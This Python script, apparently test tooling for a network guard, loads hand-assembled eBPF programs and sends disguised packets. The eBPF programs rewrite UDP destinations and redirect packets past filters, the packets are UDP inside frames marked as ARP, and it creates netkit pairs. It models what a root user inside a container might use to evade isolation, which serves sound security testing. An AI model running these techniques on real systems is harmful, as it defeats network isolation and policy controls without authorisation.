#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""What root inside may use against a guard, beside tc's own actions.

usage: attack.py pin DIRECTORY IFINDEX ADDRESS PORT
       attack.py disguised INTERFACE MAC SOURCE ADDRESS PORT COUNT
       attack.py netkit L2|L3 NAME PEER

`pin` loads small programs and pins them in a directory of bpffs; those of tc care for UDP packets to
PORT, PORT + 1 and PORT + 2:
  rewrite   tc: the packet's destination becomes ADDRESS, its header's checksum follows
  redirect  tc: out of the interface IFINDEX
  peer      tc, ingress: to the other end of the veth IFINDEX
  xdp       XDP: what is meant for 02:… goes out of the interface IFINDEX
  xdp2      XDP: the same, but only when it comes by a second time
`disguised` sends UDP packets in frames that say they are ARP. `netkit` makes a pair of that kind, which
older tools cannot.
"""

import ctypes
import os
import platform
import resource
import socket
import struct
import sys

NUMBER = {"x86_64": 321, "aarch64": 280}
libc = ctypes.CDLL(None, use_errno=True)
try:  # before Linux 5.11 programs and maps count as locked memory
    resource.setrlimit(resource.RLIMIT_MEMLOCK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError):
    pass

PROG_LOAD, OBJ_PIN = 5, 6
SCHED_CLS, XDP = 3, 6
SKB_STORE_BYTES, L3_CSUM_REPLACE, REDIRECT, REDIRECT_PEER = 9, 10, 23, 155
CSUM_OFFSET, DST_OFFSET, DPORT_OFFSET = 14 + 10, 14 + 16, 14 + 20 + 2


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes, len(attributes))
    result = libc.syscall(NUMBER[platform.machine()], command, buffer, len(attributes))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


# --- a few instructions ------------------------------------------------------------------------------


def insn(code, dst=0, src=0, offset=0, value=0):
    return struct.pack("<BBhi", code, src << 4 | dst, offset, value)


def load(size, dst, src, offset):
    return insn({1: 0x71, 2: 0x69, 4: 0x61}[size], dst, src, offset)


def store(size, dst, offset, value):
    return insn({1: 0x72, 4: 0x62}[size], dst, 0, offset, value)


def move(dst, value):
    return insn(0xB7, dst, 0, 0, value)


def copy(dst, src):
    return insn(0xBF, dst, src)


def add(dst, value):
    return insn(0x07, dst, 0, 0, value)


def call(helper):
    return insn(0x85, 0, 0, 0, helper)


def join(*parts):
    return b"".join(parts)


EXIT = insn(0x95)


def bounded(begin, end, rest):
    """r2 points to the packet's first 38 bytes, or the program ends with what `rest` says."""
    return join(load(4, 2, 1, begin), load(4, 3, 1, end), copy(4, 2), add(4, 38),
                insn(0xBD, 4, 3, 2), move(0, rest), EXIT)


def unless_equal(register, value, rest):
    return join(insn(0x15, register, 0, 2, value), move(0, rest), EXIT)


SKB_DATA, SKB_DATA_END = 76, 80
XDP_DATA, XDP_DATA_END, XDP_PASS = 0, 4, 2
TC_OK, TC_UNSPEC = 0, -1

# First byte of a sender's address: the loopback interface's own is none that a bridge would take.
LOCAL = 0xBA


def to_port(port):
    """r2 points to an IPv4 packet without options to that UDP port."""
    return join(
        bounded(SKB_DATA, SKB_DATA_END, TC_UNSPEC),
        load(1, 5, 2, 14), unless_equal(5, 0x45, TC_UNSPEC),
        load(2, 5, 2, DPORT_OFFSET), unless_equal(5, socket.htons(port), TC_UNSPEC))


def rewrite(_index, address, port):
    new = struct.unpack("<i", socket.inet_aton(address))[0]
    return SCHED_CLS, join(
        copy(6, 1), to_port(port),
        load(4, 7, 2, DST_OFFSET),
        store(4, 10, -8, new),
        copy(1, 6), move(2, DST_OFFSET), copy(3, 10), add(3, -8), move(4, 4), move(5, 0),
        call(SKB_STORE_BYTES),
        copy(1, 6), move(2, CSUM_OFFSET), copy(3, 7), move(4, new), move(5, 4),
        call(L3_CSUM_REPLACE),
        move(0, TC_OK), EXIT)


def redirect(index, _address, port):
    return SCHED_CLS, join(
        to_port(port + 1),
        store(1, 2, 6, LOCAL),
        move(1, index), move(2, 0), call(REDIRECT), EXIT)


def peer(index, _address, port):
    return SCHED_CLS, join(
        to_port(port + 2),
        store(1, 2, 6, LOCAL),
        move(1, index), move(2, 0), call(REDIRECT_PEER), EXIT)


def xdp(index, _address, _port):
    return XDP, join(
        bounded(XDP_DATA, XDP_DATA_END, XDP_PASS),
        load(1, 5, 2, 0), unless_equal(5, 2, XDP_PASS),
        store(1, 2, 6, LOCAL),
        move(1, index), move(2, 0), call(REDIRECT), EXIT)


def xdp2(index, _address, _port):
    return XDP, join(
        bounded(XDP_DATA, XDP_DATA_END, XDP_PASS),
        load(1, 5, 2, 0), unless_equal(5, 2, XDP_PASS),
        load(1, 5, 2, 6), store(1, 2, 6, LOCAL), unless_equal(5, LOCAL, XDP_PASS),
        move(1, index), move(2, 0), call(REDIRECT), EXIT)


def pin(directory, index, address, port):
    os.makedirs(directory, exist_ok=True)
    for make in (rewrite, redirect, peer, xdp, xdp2):
        kind, code = make(int(index), address, int(port))
        instructions = ctypes.create_string_buffer(code, len(code))
        license_name = ctypes.create_string_buffer(b"GPL")
        log = ctypes.create_string_buffer(65536)
        try:
            program = bpf(PROG_LOAD, struct.pack(
                "IIQQIIQ", kind, len(code) // 8, ctypes.addressof(instructions),
                ctypes.addressof(license_name), 1, len(log), ctypes.addressof(log)))
        except OSError as error:
            sys.exit(f"attack.py: {make.__name__}: {error}\n{log.value.decode()}")
        path = ctypes.create_string_buffer(f"{directory}/{make.__name__}".encode())
        bpf(OBJ_PIN, struct.pack("QII", ctypes.addressof(path), program, 0))


# --- a packet that says it is none ---------------------------------------------------------------------


def disguised(interface, mac, source, address, port, count):
    def checksum(data):
        total = sum(struct.unpack(f">{len(data) // 2}H", data))
        total = (total & 0xFFFF) + (total >> 16)
        return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF

    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + 8 + 32, 1, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(address))
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    packet = header + struct.pack(">HHHH", 40000, int(port), 40, 0) + b"x" * 32
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as sender:
        for _ in range(int(count)):
            sender.sendto(packet, (interface, 0x0806, 0, 0, bytes.fromhex(mac.replace(":", ""))))


# --- a pair of netkit devices ----------------------------------------------------------------------------

RTM_NEWLINK = 16
NLM_F_REQUEST, NLM_F_ACK, NLM_F_CREATE, NLM_F_EXCL = 1, 4, 0x400, 0x200
IFLA_IFNAME, IFLA_LINKINFO, INFO_KIND, INFO_DATA = 3, 18, 1, 2
NETKIT_PEER_INFO, NETKIT_MODE = 1, 5
MODES = {"L2": 0, "L3": 1}


def attribute(kind, payload):
    return struct.pack("HH", 4 + len(payload), kind) + payload + bytes(-len(payload) % 4)


def netkit(mode, name, other):
    link = struct.pack("BxHiII", 0, 0, 0, 0, 0)
    data = attribute(NETKIT_MODE, struct.pack("I", MODES[mode])) + attribute(
        NETKIT_PEER_INFO, link + attribute(IFLA_IFNAME, other.encode() + b"\0"))
    body = link + attribute(IFLA_IFNAME, name.encode() + b"\0") + attribute(
        IFLA_LINKINFO, attribute(INFO_KIND, b"netkit") + attribute(INFO_DATA, data))
    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.send(struct.pack("IHHII", 16 + len(body), RTM_NEWLINK, flags, 1, 0) + body)
        error = -struct.unpack("i", netlink.recv(4096)[16:20])[0]
    if error:
        sys.exit(f"attack.py: netkit: {os.strerror(error)}")


if __name__ == "__main__":
    {"pin": pin, "disguised": disguised, "netkit": netkit}[sys.argv[1]](*sys.argv[2:])
